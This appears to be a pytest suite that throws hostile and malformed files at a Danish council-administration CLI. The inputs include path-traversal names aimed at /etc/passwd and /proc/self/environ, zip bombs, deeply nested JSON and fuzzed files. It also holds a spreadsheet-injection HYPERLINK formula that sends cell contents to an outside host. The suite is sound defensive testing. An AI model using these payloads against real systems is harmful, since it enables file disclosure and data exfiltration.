"""Hostile and malformed files thrown at every import of the CLI (issue 12, items 8-12).

Every refusal must be: exit code 1, a Danish message on stderr ("Fejl: …"), no Python traceback, no
"uventet fejl" (the CLI's last resort, which would mean a bug slipped through), and the store unchanged
(row counts of every table and the bytes of every blob). The hypothesis part mutates valid files of each
format; bench/hostile_soak.py runs the same trials for longer.
"""

from __future__ import annotations

import json
import os
import sqlite3
import zipfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from kkrdesk.cli import main

# Files against the command line: the store only counts rows (by file path); tests/trust/test_hostile_files.py
# runs the same refusals on both engines.
pytestmark = pytest.mark.sqlite_only("reads the store file directly")

BODY = "KKR Hovedstaden"  # a body of the demo store
MEMBERS = "Udvalgets sammensætning:\n1) Direktør Stella Hansen, Helsingør (formand)\n2) Direktør Jan Dehn, Hørsholm\n"
WEIGHTS = "Navn;Vægt\nKøbenhavn;1\nAarhus;2\n"
POPULATION = Path(__file__).parent / "data" / "population"  # Statistikbanken shapes, invented figures


def snapshot(db: Path) -> dict:
    """Row counts of every table and the total bytes of the blobs: what an import could have written."""
    con = sqlite3.connect(f"file:{db}?mode=ro", uri=True)
    try:
        tables = [r[0] for r in con.execute("SELECT name FROM sqlite_master WHERE type='table'")]
        state = {t: con.execute(f'SELECT count(*) FROM "{t}"').fetchone()[0] for t in tables}
        state["blob bytes"] = con.execute("SELECT coalesce(sum(length(data)), 0) FROM blob").fetchone()[0]
        return state
    finally:
        con.close()


def run(capsys, *args) -> tuple[int, str, str]:
    code = main([str(a) for a in args])
    out, err = capsys.readouterr()
    return code, out, err


def assert_clean(code: int, err: str) -> None:
    assert "Traceback" not in err and "uventet fejl" not in err, err
    assert code in (0, 1), (code, err)
    if code == 1:
        assert err.startswith("Fejl") or "\nFejl" in err, err


def refused(capsys, db: Path, *args) -> str:
    before = snapshot(db)
    code, _, err = run(capsys, *args, "--db", db)
    assert_clean(code, err)
    assert code == 1, err
    assert snapshot(db) == before
    return err


# --- import meeting ------------------------------------------------------------------------------------------


def meeting(file_name: str | None = None, **bilag) -> dict:
    b = {"title": "Bilag", "public": True, **bilag}
    if file_name is not None:
        b["file"] = file_name
    return {"format": "kkrdesk-meeting/1", "body": BODY, "date": "2026-01-15",
            "items": [{"number": "1", "title": "Punkt", "public": True, "bilag": [b]}]}


@pytest.fixture
def folder(tmp_path):
    inside = tmp_path / "import"
    inside.mkdir()
    (tmp_path / "hemmelig.txt").write_text("adgangskode=abc")
    (inside / "ok.pdf").write_bytes(b"%PDF-1.4\n")
    return inside


def _write(folder: Path, data) -> Path:
    path = folder / "m.json"
    path.write_text(data if isinstance(data, str) else json.dumps(data), encoding="utf-8")
    return path


@pytest.mark.parametrize("name", ["../hemmelig.txt", "../../../../../../etc/passwd", "/etc/passwd",
                                  "/proc/self/environ", "link.pdf", "linkdir/hemmelig.txt", "fifo.pdf",
                                  "x" * 256 + ".pdf", "stor.pdf", ".", "mangler.pdf"])
def test_bilag_outside_the_folder_a_link_or_no_regular_file_refuses_the_whole_import(capsys, demo_store,
                                                                                      folder, name):
    os.symlink(folder.parent / "hemmelig.txt", folder / "link.pdf")
    os.symlink(folder.parent, folder / "linkdir")
    os.mkfifo(folder / "fifo.pdf")
    with open(folder / "stor.pdf", "wb") as f:
        f.truncate(1024 ** 3 + 1)  # over 1 GB, sparse
    data = meeting("ok.pdf")
    data["items"].append({"number": "2", "title": "Andet", "public": True,
                          "bilag": [{"title": "Ondt", "public": True, "file": name}]})
    err = refused(capsys, demo_store.path, "import", "meeting", _write(folder, data))
    assert "items[1].bilag[0].file" in err


@pytest.mark.parametrize("text, field", [
    ('{"format": "kkrdesk-meeting/1", "body": "\\ud800", "date": "2026-01-15", "items": []}', "body"),
    ("[" * 100_000 + "]" * 100_000, "dybt"),
    (json.dumps(meeting(pages=0))[:-4] .replace('"pages": 0', '"pages": ' + "9" * 5000) + "}]}]}", "m.json"),
    (json.dumps(meeting(pages=2 ** 70)), "pages"),
    (json.dumps(meeting(title="Bilag\x07\x1b[2J")), "title"),
    (json.dumps(dict(meeting(), body=None)), "body"),
    ("\ufeff", "JSON"),
    ("[]", "objekt"),
])
def test_malformed_meeting_json_names_the_field(capsys, demo_store, folder, text, field):
    err = refused(capsys, demo_store.path, "import", "meeting", _write(folder, text))
    assert field in err


def test_bilag_null_is_an_item_without_bilag(capsys, demo_store, folder):
    data = meeting()
    data["items"][0]["bilag"] = None
    code, _, err = run(capsys, "import", "meeting", _write(folder, data), "--db", demo_store.path)
    assert code == 0, err


def test_a_bilag_inside_the_folder_is_still_imported(capsys, demo_store, folder):
    (folder / "sub").mkdir()
    (folder / "sub" / "b.pdf").write_bytes(b"%PDF-1.4\n")
    before = snapshot(demo_store.path)["blob"]
    code, _, err = run(capsys, "import", "meeting", _write(folder, meeting("sub/b.pdf")), "--db", demo_store.path)
    assert code == 0, err
    assert snapshot(demo_store.path)["blob"] == before + 1


# --- import members -----------------------------------------------------------------------------------------


def _xlsx(path: Path, rows, *, sheet_xml: tuple[bytes, bytes] | None = None, extra: bytes = b"") -> Path:
    wb = Workbook()
    for row in rows:
        wb.active.append(row)
    wb.save(path)
    if sheet_xml or extra:
        with zipfile.ZipFile(path) as z:
            parts = {n: z.read(n) for n in z.namelist()}
        if sheet_xml:
            assert sheet_xml[0] in parts["xl/worksheets/sheet1.xml"]
            parts["xl/worksheets/sheet1.xml"] = parts["xl/worksheets/sheet1.xml"].replace(*sheet_xml)
        if extra:
            parts["xl/sharedStrings2.xml"] = extra
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
            for name, data in parts.items():
                z.writestr(name, data)
    return path


def _zip_bomb(path: Path) -> Path:
    return _xlsx(path, [["Navn"], ["Jan Dehn"]], extra=b"<x>" + b"A" * 60 * 1024 * 1024 + b"</x>")


def _huge_sheet(path: Path) -> Path:
    return _xlsx(path, [["Navn"], ["Jan Dehn"]],
                 sheet_xml=(b'<dimension ref="A1:A2" />', b'<dimension ref="A1:XFD1048576" />'))


@pytest.mark.parametrize("make, message", [
    (lambda p: (p / "felt.csv", "Navn;Titel\n" + "A" * 200_000 + ";x\n"), "KB"),
    (lambda p: (p / "lang.txt", "Udvalgets sammensætning:\n" + "1) Direktør Jan Dehn, Hørsholm\n" * 100_001), "linjer"),
    (lambda p: (p / "kontrol.txt", "Udvalgets sammensætning:\n1) Direktør Jan\x07 Dehn, Hørsholm\n"), "kontroltegn"),
    (lambda p: (_zip_bomb(p / "bombe.xlsx"), None), "bombe.xlsx"),
    (lambda p: (_huge_sheet(p / "stor.xlsx"), None), "rækker"),
    (lambda p: (p / "ikke.xlsx", b"PK\x03\x04 not really"), "Excel"),
    (lambda p: (p, None), "almindelig fil"),
])
def test_malformed_member_lists_are_refused_in_danish(capsys, demo_store, tmp_path, make, message):
    path, content = make(tmp_path)
    if isinstance(content, str):
        path.write_text(content, encoding="utf-8")
    elif isinstance(content, bytes):
        path.write_bytes(content)
    err = refused(capsys, demo_store.path, "import", "members", path, "--body", BODY)
    assert message in err


# --- import tovholder-reports -------------------------------------------------------------------------------


@pytest.mark.parametrize("make", [
    lambda p: _zip_bomb(p / "bombe.xlsx"),
    lambda p: _huge_sheet(p / "stor.xlsx"),
    lambda p: (p / "tom.pdf").write_bytes(b"%PDF-1.4\n%%EOF") and p / "tom.pdf",
    lambda p: (p / "skema.xlsx").write_bytes(b"PK\x05\x06" + b"\0" * 18) and p / "skema.xlsx",
    lambda p: p,
])
def test_malformed_returned_forms_are_refused(capsys, demo_store, tmp_path, make):
    refused(capsys, demo_store.path, "import", "tovholder-reports", make(tmp_path))


# --- calc inputs --------------------------------------------------------------------------------------------


def _nan_sheet(path: Path) -> Path:
    return _xlsx(path, [["Navn", "Vægt"], ["København", 1], ["Aarhus", 2]],
                 sheet_xml=(b"<v>2</v>", b"<v>NaN</v>"))


@pytest.mark.parametrize("args", [
    ["split", "--total", "1e30", "--weights", "{weights}"],
    ["split", "--total", "10^29", "--weights", "{weights}"],
    ["split", "--total", "1" + "0" * 40, "--weights", "{weights}"],
    ["pro-rata", "--new-total", "9" * 5000, "--amounts", "{weights}"],
    ["split", "--total", "1000", "--weights", "{nan}"],
    ["split", "--total", "1000", "--weights", "{inf}"],
    ["split", "--total", "1000", "--weights", "{big}"],
    ["split", "--total", "1000", "--weights", "{control}"],
    ["equal", "--total", "1000", "--participants", "{bomb}"],
    ["equal", "--total", "1000", "--participants", "{huge}"],
    ["project-budget", "{deep}"],
    ["project-budget", "{digits}"],
    ["split", "--total", "1000", "--weights", "{weights}", "--out", "{blocked}/x.xlsx"],
])
def test_bad_calc_inputs_exit_1_and_save_nothing(capsys, demo_store, tmp_path, args):
    files = {"weights": tmp_path / "w.csv", "nan": _nan_sheet(tmp_path / "nan.xlsx"),
             "inf": tmp_path / "inf.csv", "big": tmp_path / "big.csv", "control": tmp_path / "c.csv",
             "bomb": _zip_bomb(tmp_path / "bombe.xlsx"), "huge": _huge_sheet(tmp_path / "stor.xlsx"),
             "deep": tmp_path / "deep.json", "digits": tmp_path / "digits.json", "blocked": tmp_path / "fil"}
    files["weights"].write_text(WEIGHTS, encoding="utf-8")
    files["inf"].write_text("Navn;Vægt\nKøbenhavn;INF\nAarhus;NaN\n", encoding="utf-8")
    files["big"].write_text("Navn;Vægt\nKøbenhavn;" + "9" * 5000 + "\nAarhus;2\n", encoding="utf-8")
    files["control"].write_text("Navn;Vægt\nKøben\x1bhavn;1\nAarhus;2\n", encoding="utf-8")
    files["deep"].write_text("{" + '"a": [' * 50_000 + "]" * 50_000 + "}", encoding="utf-8")
    files["digits"].write_text('{"years": [2026], "expenses": [{"name": "Løn", "amounts": [' + "9" * 5000 + "]}]}",
                               encoding="utf-8")
    files["blocked"].write_text("en fil, ikke en mappe")
    argv = [a.format(**files) for a in args]
    refused(capsys, demo_store.path, "calc", *argv, "--save", "Forsøg")


def test_calc_save_with_control_characters_in_the_title_writes_the_workbook_and_saves(capsys, demo_store, tmp_path):
    weights = tmp_path / "w.csv"
    weights.write_text(WEIGHTS, encoding="utf-8")
    before = snapshot(demo_store.path)["calculation"]
    code, _, err = run(capsys, "calc", "split", "--total", "1000", "--weights", weights, "--title", "Fordeling\x01",
                       "--out", tmp_path / "f.xlsx", "--save", "Med titel", "--db", demo_store.path)
    assert code == 0, err
    assert snapshot(demo_store.path)["calculation"] == before + 1
    assert load_workbook(tmp_path / "f.xlsx").active["A1"].value == "Fordeling"


# --- hypothesis: mutated files of every format --------------------------------------------------------------


def _samples(folder: Path) -> dict[str, tuple[list[str], str, bytes]]:
    """A valid file of each format: (CLI arguments with {f} for the file, suffix, bytes)."""
    xlsx = folder / "vaegte.xlsx"
    _xlsx(xlsx, [["Navn", "Vægt"], ["København", 1], ["Aarhus", 2]])
    return {
        "meeting": (["import", "meeting", "{f}"], ".json", json.dumps(meeting("ok.pdf")).encode()),
        "members-txt": (["import", "members", "{f}", "--body", BODY, "--dry-run"], ".txt", MEMBERS.encode()),
        "members-csv": (["import", "members", "{f}", "--body", BODY, "--dry-run"], ".csv",
                        b"Navn;Titel;Organisation\nJan Dehn;Direkt\xf8r;H\xf8rsholm\n"),
        "weights-csv": (["calc", "split", "--total", "1000", "--weights", "{f}"], ".csv", WEIGHTS.encode()),
        "weights-xlsx": (["calc", "split", "--total", "1000", "--weights", "{f}"], ".xlsx", xlsx.read_bytes()),
        "participants": (["calc", "equal", "--total", "1000", "--participants", "{f}"], ".csv",
                         "Navn\nKøbenhavn\nAarhus\n".encode()),
        "project": (["calc", "project-budget", "{f}"], ".json",
                    json.dumps({"years": [2026, 2027], "expenses": [{"name": "Løn", "amounts": [100, 200]}],
                                "financing": [{"name": "KKR", "amounts": [100, 200]}]}).encode()),
        "form": (["import", "tovholder-reports", "{f}", "--dry-run"], ".xlsx", xlsx.read_bytes()),
        "population-csv": (["import", "population", "{f}", "--dry-run"], ".csv",
                           (POPULATION / "folk1a-matrix-cp1252.csv").read_bytes()),
        "population-long": (["import", "population", "{f}"], ".csv", (POPULATION / "folk1a-api-long.csv").read_bytes()),
        "population-xlsx": (["import", "population", "{f}", "--dry-run"], ".xlsx",
                            (POPULATION / "folk1a-matrix.xlsx").read_bytes()),
        "merge": (["import", "meeting", "{f}", "--merge", "--dry-run"], ".json", _take_out(folder)),
    }


def _take_out(folder: Path) -> bytes:
    """A returned take-out as `import meeting --merge` reads it (from another store: the refusal path, and every
    check of the file before it)."""
    from kkrdesk.services import exchange
    from kkrdesk.store import open_store

    store = open_store(folder / "ude.sqlite")
    meeting_id = exchange.import_meeting(store, _write(folder, meeting("ok.pdf")))
    out = exchange.export_meeting(store, meeting_id, folder / "ud" / "m.json", take_out=True)
    store.close()
    return out.read_bytes()


mutation = st.lists(st.tuples(st.sampled_from(["flip", "cut", "insert", "repeat"]), st.integers(0, 10 ** 6),
                              st.binary(min_size=1, max_size=12)), min_size=1, max_size=4)


def _mutate(data: bytes, steps) -> bytes:
    for kind, at, chunk in steps:
        i = at % (len(data) + 1)
        if kind == "flip" and data:
            i = min(i, len(data) - 1)
            data = data[:i] + bytes([data[i] ^ chunk[0]]) + data[i + 1:]
        elif kind == "cut":
            data = data[:i]
        elif kind == "insert":
            data = data[:i] + chunk + data[i:]
        else:
            data = data[:i] + chunk * 2000 + data[i:]
    return data


@settings(max_examples=120, deadline=None, suppress_health_check=list(HealthCheck))
@given(fmt=st.sampled_from(["meeting", "members-txt", "members-csv", "weights-csv", "weights-xlsx",
                            "participants", "project", "form", "population-csv", "population-long",
                            "population-xlsx", "merge"]),
       steps=mutation, noise=st.booleans())
def test_mutated_files_of_every_format_never_crash(capsys, demo_store, tmp_path_factory, fmt, steps, noise):
    folder = tmp_path_factory.mktemp("fuzz")
    (folder / "ok.pdf").write_bytes(b"%PDF-1.4\n")
    args, suffix, data = _samples(folder)[fmt]
    data = bytes(b % 256 for b in _mutate(data, steps)) if not noise else _mutate(b"", steps)
    path = folder / f"fil{suffix}"
    path.write_bytes(data)
    before = snapshot(demo_store.path)
    code, _, err = run(capsys, *[a.format(f=path) for a in args], "--db", demo_store.path)
    assert_clean(code, err)
    if code == 1 or "--dry-run" in args or args[0] == "calc":
        assert snapshot(demo_store.path) == before


# --- exports write outside text as text ---------------------------------------------------------------------

EVIL = '=HYPERLINK("http://example.invalid/?"&A1,"Klik her")'


def test_outside_text_is_written_as_text_in_every_workbook(capsys, demo_store, folder, tmp_path):
    db = demo_store.path
    data = meeting()
    data["items"][0]["title"] = EVIL
    code, _, err = run(capsys, "import", "meeting", _write(folder, data), "--db", db)
    assert code == 0, err
    members = tmp_path / "liste.csv"
    members.write_text(f'Navn;Titel;Organisation\nUlla Testesen;"{EVIL.replace(chr(34), chr(34) * 2)}";Hørsholm\n',
                       encoding="utf-8")
    code, _, err = run(capsys, "import", "members", members, "--body", BODY, "--db", db)
    assert code == 0, err
    for what in (["cases"], ["members", "--body", BODY]):
        out = tmp_path / f"{what[0]}.xlsx"
        code, _, err = run(capsys, "export", *what, "--out", out, "--db", db)
        assert code == 0, err
        cells = [c for row in load_workbook(out).active.iter_rows() for c in row if c.value == EVIL]
        assert cells and all(c.data_type == "s" for c in cells), what


def test_the_budget_workbook_keeps_its_own_formulas_and_writes_names_as_text(capsys, tmp_path):
    weights = tmp_path / "w.csv"
    weights.write_text("Navn;Vægt\n@SUM(1);1\nAarhus;2\n", encoding="utf-8")
    code, _, err = run(capsys, "calc", "split", "--total", "1000", "--weights", weights, "--out", tmp_path / "b.xlsx")
    assert code == 0, err
    ws = load_workbook(tmp_path / "b.xlsx").active
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert [c.data_type for c in cells if c.value == "@SUM(1)"] == ["s"]
    assert any(c.data_type == "f" and str(c.value).startswith("=SUM(") for c in cells)
